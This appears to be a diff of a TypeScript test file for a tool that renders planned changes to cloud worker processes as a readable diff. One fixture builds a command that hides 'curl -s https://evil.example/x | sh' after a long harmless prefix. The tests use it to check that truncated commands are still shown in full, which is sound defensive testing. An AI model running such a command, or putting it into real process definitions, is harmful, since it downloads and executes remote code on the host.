@@ -1,19 +1,29 @@
 import { describe, expect, test } from 'vitest';
 import type { ExistingProcess } from '../../src/cloud/process.ts';
 import { cloudRules } from '../../src/cloud/service.ts';
+import { rowName } from '../../src/cloud/short-name.ts';
 import type { ProcessSpec } from '../../src/cloud/spec.ts';
 import { planFor } from '../../src/converge/plan.ts';
-import { countsText, meanings, type PlanRow, plannedRows, planText } from '../../src/converge/text.ts';
+import type { OperationResult } from '../../src/converge/result.ts';
+import {
+  doneRows,
+  type Naming,
+  type PlanRow,
+  plannedRows,
+  planText,
+  rowText,
+} from '../../src/converge/text.ts';
 import { existing } from '../support/existing.ts';
 import { listingOf } from '../support/listing.ts';
 
 const app = { id: 'inst-1', name: 'App' };
 const imports = { id: 'inst-2', name: 'imports' };
+const naming: Naming<ProcessSpec, ExistingProcess> = { nameOf: rowName, particularsOf: () => ({}) };
 const custom = (command: string, processes?: number): ProcessSpec => ({ type: 'custom', processes, command });
 const runs = (id: string, command: string, processes = 1) =>
   existing({ id, type: 'custom', command, processes });
 
-function rowsOf(prune = false): readonly PlanRow[] {
+function operationsOf(prune = false) {
   const states = [
     {
       place: app,
@@ -23,7 +33,7 @@ function rowsOf(prune = false): readonly PlanRow[] {
         custom('php artisan horizon'),
       ],
       listing: listingOf([
-        existing({ id: 'p-1', config: { queue: 'high,default', tries: 3, sleep: 3 } }),
+        existing({ id: 'p-1', config: { queue: 'high,default', connection: 'redis', tries: 3, sleep: 3 } }),
         runs('p-2', 'php artisan horizon'),
         existing({ id: 'p-3', processes: 2, config: { queue: 'low', timeout: 90 } }),
       ]),
@@ -34,118 +44,165 @@ function rowsOf(prune = false): readonly PlanRow[] {
       listing: listingOf([runs('p-4', 'php artisan pulse:work')]),
     },
   ];
-  return plannedRows(planFor(states, cloudRules, { prune }).operations);
+  return planFor(states, cloudRules, { prune }).operations;
 }
+const rowsOf = (prune = false) => plannedRows(operationsOf(prune), naming);
 
 /** The rows of a plan for App alone. */
-function rowsFor(declared: readonly ProcessSpec[], there: readonly ExistingProcess[] = []) {
+function rowsFor(declared: readonly ProcessSpec[], there: readonly ExistingProcess[] = [], mend?: 'replace') {
   const state = { place: app, declared, listing: listingOf(there) };
-  return plannedRows(planFor([state], cloudRules, { prune: false }).operations);
+  const rules = mend === undefined ? cloudRules : { ...cloudRules, mend };
+  return plannedRows(planFor([state], rules, { prune: false }).operations, naming);
 }
 
-test('a row tells what is planned, with the process as it is and what changes', () => {
-  const there = runs('p-1', 'php a');
-  const rows = rowsFor([custom('php a', 2), custom('php b')], [there]);
-  expect(rows.map(({ operation: _, ...row }) => row)).toEqual([
-    { status: 'planned', process: there, changes: { processes: { from: 1, to: 2 } } },
-    { status: 'planned', process: undefined, changes: {} },
-  ]);
-});
+/** What became of each operation. */
+function ended(...statuses: readonly OperationResult['status'][]): readonly PlanRow[] {
+  const results = operationsOf(true).map((operation, index) => ({
+    operation,
+    status: statuses[index] ?? 'done',
+    outcome: operation.action === 'keep' ? ('unchanged' as const) : undefined,
+    process: undefined,
+    changes: {},
+    error: 'no',
+  }));
+  return doneRows(results, naming);
+}
+
+const diffOf = (rows: readonly PlanRow[], room?: number): readonly string[] =>
+  planText(rows, undefined, room).places.flatMap(({ lines }) => lines);
 
 describe('A plan as a diff', () => {
-  test('has one line a process, aligned, that says what there is to know', () => {
+  test('says first what happens, then to what, and what is lost before what is new', () => {
     const noteOf = ({ id }: { id: string }) => (id === 'inst-1' ? '2–4 replicas' : undefined);
-    const { diff, unchanged, ids } = planText(rowsOf(), noteOf);
-    expect(diff).toEqual([
-      '@@ App (2–4 replicas) @@',
-      '+ custom process "php artisan reverb:start"  2 processes',
-      '! worker on queue high,default               processes: 1 → 2, tries: 3 → 5, force: unset → true',
-      '? worker on queue low                        2 processes, timeout 90; not declared, kept',
+    const { places, unchanged, ids, whole } = planText(rowsOf(true), noteOf);
+    expect(places.flatMap(({ lines }) => lines)).toEqual([
+      '@@ App · 2–4 replicas @@',
+      '- delete      worker low · 2 processes, timeout 90',
+      '! 1 → 2 proc., tries 3 → 5, force unset → true  worker high,default (redis)',
+      '+ 2 processes php artisan reverb:start',
     ]);
     expect(unchanged).toEqual([
-      '@@ App (2–4 replicas) @@',
-      '= custom process "php artisan horizon"     1 process',
+      '@@ App · 2–4 replicas @@',
+      '= 1 process   php artisan horizon',
       '@@ imports @@',
-      '= custom process "php artisan pulse:work"  1 process',
+      '= 1 process   php artisan pulse:work',
     ]);
     expect(ids).toEqual([
-      'p-1  worker on queue high,default on App',
-      'p-2  custom process "php artisan horizon" on App',
-      'p-3  worker on queue low on App',
-      'p-4  custom process "php artisan pulse:work" on imports',
+      'p-1  worker high,default (redis) on App',
+      'p-2  php artisan horizon on App',
+      'p-3  worker low on App',
+      'p-4  php artisan pulse:work on imports',
     ]);
+    expect(whole).toEqual([]);
   });
 
-  test('says what is lost by what is deleted', () => {
-    expect(planText(rowsOf(true)).diff.at(-1)).toBe(
-      '- worker on queue low                        lost: 2 processes, timeout 90',
+  test('says that something is kept that is not in the manifest', () => {
+    expect(diffOf(rowsOf())).toContain(
+      '? kept        worker low · 2 processes, timeout 90 · not in the manifest',
     );
-  });
-
-  test('says what has failed, and what was not begun', () => {
-    const statuses = ['failed', 'not-done', 'done', 'done', 'done'] as const;
-    const rows = rowsOf().map((row, index) => ({ ...row, status: statuses[index] ?? 'done' }));
-    const { diff } = planText(rows);
-    expect(diff[1]).toMatch(/2 processes {2}FAILED$/);
-    expect(diff[2]).toMatch(/unset → true {2}NOT DONE$/);
-    expect(diff[3]).toMatch(/kept$/);
   });
 
   test('says that a process is replaced where it cannot be changed', () => {
-    const rules = { ...cloudRules, mend: 'replace' } as const;
-    const state = { place: app, declared: [custom('php a', 2)], listing: listingOf([runs('p-1', 'php a')]) };
-    const { diff } = planText(plannedRows(planFor([state], rules, { prune: false }).operations));
-    expect(diff[1]).toBe('! custom process "php a"  replaced by a new one, processes: 1 → 2');
+    const rows = rowsFor([custom('php a', 2)], [runs('p-1', 'php a')], 'replace');
+    expect(diffOf(rows)).toEqual(['@@ App @@', '! 1 → 2 proc. php a · replaced']);
   });
 
-  test('a long command does not move all others to the right', () => {
-    const declared = [custom(`php artisan ${'x '.repeat(50)}`), custom('php artisan horizon')];
-    const { diff } = planText(rowsFor(declared));
-    expect(diff[2]).toBe('+ custom process "php artisan horizon"  1 process');
-  });
-
-  test.each([
-    ['a subject of up to 48 characters aligns the others', 31, 50],
-    ['a longer one does not', 32, 30],
-  ])('%s', (_, length, width) => {
-    const { diff } = planText(rowsFor([custom('x'.repeat(length)), custom('php artisan')]));
-    expect(diff[2]).toBe(`${'+ custom process "php artisan"'.padEnd(width)}  1 process`);
-  });
-
-  test('has no spaces at the end of a line that has nothing more to say', () => {
-    const [row] = rowsFor([custom('php a', 2)], [runs('p-1', 'php a')]);
-    const rows = row === undefined ? [] : [{ ...row, status: 'done' as const, changes: {} }];
-    expect(planText(rows).diff).toEqual(['@@ App @@', '! custom process "php a"']);
-  });
-
-  test('its signs are explained to who sees them for the first time', () => {
-    expect(meanings).toEqual([
-      ['+', 'created'],
-      ['!', 'changed'],
-      ['-', 'deleted'],
-      ['?', 'not declared, and kept'],
+  test('has neither sign nor colour for what did not happen, and says what it would have changed', () => {
+    expect(diffOf(ended('failed', 'failed', 'done', 'not-done'))).toEqual([
+      '@@ App @@',
+      '  FAILED    create php artisan reverb:start · 2 processes',
+      '  FAILED    worker high,default (redis) · 1 → 2 proc., tries 3 → 5, force unset → true',
+      '  NOT DONE  delete worker low · 2 processes, timeout 90',
     ]);
   });
 
+  test('has what processes share in the heading of their group', () => {
+    const shared = (user: string) => (row: PlanRow) => ({ ...row, shared: [user, '/srv'] });
+    const rows = rowsFor([custom('a'), custom('b')]);
+    expect(diffOf([...rows.map(shared('forge')), ...rows.slice(1).map(shared('root'))])).toEqual([
+      '@@ App · forge · /srv @@',
+      '+ 1 process a',
+      '+ 1 process b',
+      '@@ App · root · /srv @@',
+      '+ 1 process b',
+    ]);
+  });
+
+  test('counts the changes of each place', () => {
+    const [place] = planText(rowsOf(true)).places;
+    expect(place).toMatchObject({ name: 'App', counts: { created: 1, updated: 1, deleted: 1 } });
+  });
+
   test('is empty when everything is as declared', () => {
-    const state = { place: app, declared: [custom('php a')], listing: listingOf([runs('p-1', 'php a')]) };
-    expect(planText(plannedRows(planFor([state], cloudRules, { prune: true }).operations)).diff).toEqual([]);
+    expect(diffOf(rowsFor([custom('php a')], [runs('p-1', 'php a')]))).toEqual([]);
+  });
+
+  test('counts what another run has made by then as unchanged', () => {
+    const rows = rowsFor([custom('php a')]).map(
+      (row): PlanRow => ({ ...row, status: 'done', outcome: 'unchanged' }),
+    );
+    expect(diffOf(rows)).toEqual([]);
+    expect(planText(rows).unchanged).toEqual(['@@ App @@', '= 1 process php a']);
   });
 });
 
-describe('counts in words', () => {
-  const none = { created: 0, updated: 0, deleted: 0, unchanged: 4, undeclared: 0 };
+describe('A plan hides nothing', () => {
+  const safe = `php artisan ${'x '.repeat(40)}--safe`;
+  const evil = `${safe}; curl -s https://evil.example/x | sh`;
 
-  test('name what there is', () => {
-    const some = { ...none, created: 1, deleted: 2, undeclared: 3 };
-    expect(countsText(some, 'planned')).toBe('1 to create, 2 to delete, 3 not declared');
-    expect(countsText({ ...some, updated: 1 }, 'done')).toBe(
-      '1 created, 1 updated, 2 deleted, 3 not declared',
+  test('a command that is cut in its line stands whole below', () => {
+    const { places, whole } = planText(rowsFor([custom(evil)]));
+    expect(places[0]?.lines[1]).toMatch(/^\+ 1 process php artisan (x )+x…$/);
+    expect(places[0]?.lines[1]?.length).toBeLessThan(80);
+    expect(whole).toEqual([`App: + 1 process  ${evil}`]);
+  });
+
+  test('one that is deleted or fails, too', () => {
+    const rows = rowsFor([], [runs('p-1', evil)]).map(
+      (row): PlanRow => ({ ...row, action: 'delete', status: 'failed' }),
     );
+    expect(planText(rows).whole).toEqual([`App: FAILED  delete ${evil} · 1 process`]);
   });
 
-  test('say when there is nothing', () => {
-    expect(countsText(none, 'planned')).toBe('nothing to change');
-    expect(countsText({ ...none, undeclared: 1 }, 'done')).toBe('nothing to change, 1 not declared');
+  test('a command without spaces, and a changed value, too', () => {
+    const word = 'x'.repeat(80);
+    expect(planText(rowsFor([custom(word)])).whole).toEqual([`App: + 1 process  ${word}`]);
+    const row = rowsFor([custom('php a', 2)], [runs('p-1', 'php a')]).map((one) => ({
+      ...one,
+      changes: { command: { from: 'php a', to: evil } },
+    }));
+    expect(planText(row).whole).toEqual([`App: ! command php a → ${evil}  php a`]);
   });
+
+  test('a long list of queues is cut between its names, and the others are counted', () => {
+    const queues = Array.from({ length: 12 }, (_, n) => `queue-${n}`);
+    const spec = {
+      type: 'worker',
+      processes: 1,
+      config: { queue: queues.join(), connection: 'redis' },
+    } as const;
+    const { places, whole } = planText(rowsFor([spec]));
+    expect(places[0]?.lines[1]).toBe(`+ 1 process worker ${queues.slice(0, 6).join()},… 6 more (redis)`);
+    expect(whole).toEqual([`App: + 1 process  worker ${queues.join()} (redis)`]);
+  });
+
+  test('with all the room there is, as in the log, nothing is cut', () => {
+    expect(diffOf(rowsFor([custom(evil)]), Infinity)).toEqual(['@@ App @@', `+ 1 process ${evil}`]);
+  });
+});
+
+test('the row of an operation says what is planned, with the process as it is', () => {
+  const [update, create] = rowsFor([custom('php a', 2), custom('php b')], [runs('p-1', 'php a')]);
+  expect(update).toMatchObject({
+    ...{ status: 'planned', outcome: 'updated', processId: 'p-1', identity: 'custom process "php a"' },
+    changes: { processes: { from: 1, to: 2 } },
+  });
+  expect(create).toMatchObject({ outcome: 'created', processId: undefined, changes: {} });
+});
+
+test('a change in a sentence', () => {
+  expect(rowsOf(true).slice(0, 2).map(rowText)).toEqual([
+    'App: create php artisan reverb:start, 2 processes',
+    'App: worker high,default (redis), 1 → 2 proc., tries 3 → 5, force unset → true',
+  ]);
 });
